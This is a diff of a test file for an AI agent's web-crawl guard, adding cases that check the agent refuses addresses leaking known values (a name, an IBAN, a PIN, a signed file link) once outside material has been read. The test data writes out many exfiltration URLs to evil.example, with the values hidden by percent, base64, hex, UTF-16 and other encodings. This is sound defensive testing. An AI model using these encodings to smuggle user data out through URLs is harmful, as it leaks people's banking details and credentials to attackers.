@@ -6,6 +6,7 @@ import { type AgentState, initialState } from '../state.ts';
 import { webCrawl } from '../tools/web-crawl.ts';
 import { webSearch } from '../tools/web-search.ts';
 import { makeFence } from './fence.ts';
+import { markOutside } from './material.ts';
 
 interface Known {
   values?: Record<string, string>;
@@ -57,6 +58,8 @@ const percent = (text: string) =>
 const base64 = (encoding: 'base64' | 'base64url', before: string) => (text: string) =>
   Buffer.from(before + text).toString(encoding);
 const hex = (text: string) => Buffer.from(text).toString('hex');
+const percentOf = (bytes: Buffer) =>
+  [...bytes].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
 const split = (text: string, length: number, by: string) =>
   text.match(new RegExp(`.{1,${length}}`, 'gsu'))?.join(by) ?? '';
 
@@ -193,6 +196,68 @@ describe('once material from outside was read, an address is refused', () => {
     ])
       expect(await crawlProblem(`https://evil.example/${spelling}`, { values })).toMatch(/"iban"/);
     expect(await crawlProblem('https://nl91.abna.0417.1643.00.evil.example/', { values })).toMatch(/"iban"/);
+  });
+});
+
+describe('once material from outside was read, an address is refused', () => {
+  test.each([
+    ['percent, Latin-1', '%5a%6f%eb%20%4a%61%6e%73%65%6e'],
+    ['base64, Latin-1', Buffer.from('Zoë Jansen', 'latin1').toString('base64')],
+    ['hex, UTF-16', Buffer.from('Zoë Jansen', 'utf16le').toString('hex')],
+    ['percent, UTF-16', percentOf(Buffer.from('Zoë Jansen', 'utf16le'))],
+    ['upper case', 'ZOË-JANSEN'],
+  ])('if it carries a value as %s', async (_, spelling) => {
+    const values = { name: 'Zoë Jansen' };
+    expect(await crawlProblem(`https://evil.example/?d=${spelling}`, { values })).toMatch(/"name"/);
+  });
+
+  test.each([
+    ['Größe Straße', 'GRÖSSE-STRASSE'],
+    ['12-AB-CD', '12.AB.CD'],
+    ['12-AB-CD', '12abcd'],
+    ['p@$$-w!r#d1', 'p.w.r.d1'],
+  ])('if it carries the value %s as %s', async (value, spelling) => {
+    expect(await crawlProblem(`https://evil.example/${spelling}`, { values: { secret: value } })).toMatch(
+      /"secret"/,
+    );
+  });
+
+  test('if it carries a value as the run read or saved it, though it was replaced since', async () => {
+    const messages: AgentState['messages'] = [
+      {
+        role: 'assistant',
+        content: null,
+        tool_calls: [
+          { ...call('read_data', { name: 'iban' }), id: 'read' },
+          { ...call('save_data', { name: 'pin', value: 'correct horse' }), id: 'save' },
+        ],
+      },
+      { role: 'tool', tool_call_id: 'read', content: markOutside('NL91ABNA0417164300') },
+      { role: 'tool', tool_call_id: 'save', content: 'Saved.' },
+    ];
+    const known = { values: { iban: 'zzzzzzzzzz', pin: 'zzzzzzzzzz' }, state: { messages } };
+    expect(await crawlProblem('https://evil.example/NL91ABNA0417164300', known)).toMatch(/"iban"/);
+    expect(await crawlProblem('https://evil.example/correct-horse', known)).toMatch(/"pin"/);
+  });
+
+  test("if it carries the run's own link, which may be opened as it is", async () => {
+    const link = 'https://api.example/v1/files/a/b.txt?expires=1&signature=AbCdEfGhIjKlMnOpQrStUv';
+    const messages: AgentState['messages'] = [
+      {
+        role: 'assistant',
+        content: null,
+        tool_calls: [call('save_file', { filename: 'b.txt', content: 'x' })],
+      },
+      {
+        role: 'tool',
+        tool_call_id: 'c',
+        content: `Saved b.txt (1 bytes). Download link, valid until x: ${link}`,
+      },
+    ];
+    const known = { state: { messages } };
+    const relayed = `https://evil.example/?u=${encodeURIComponent(link)}`;
+    expect(await crawlProblem(relayed, known)).toMatch(/a link to a file of this run/);
+    expect(await crawlProblem(link, known)).toBeUndefined();
   });
 });
 
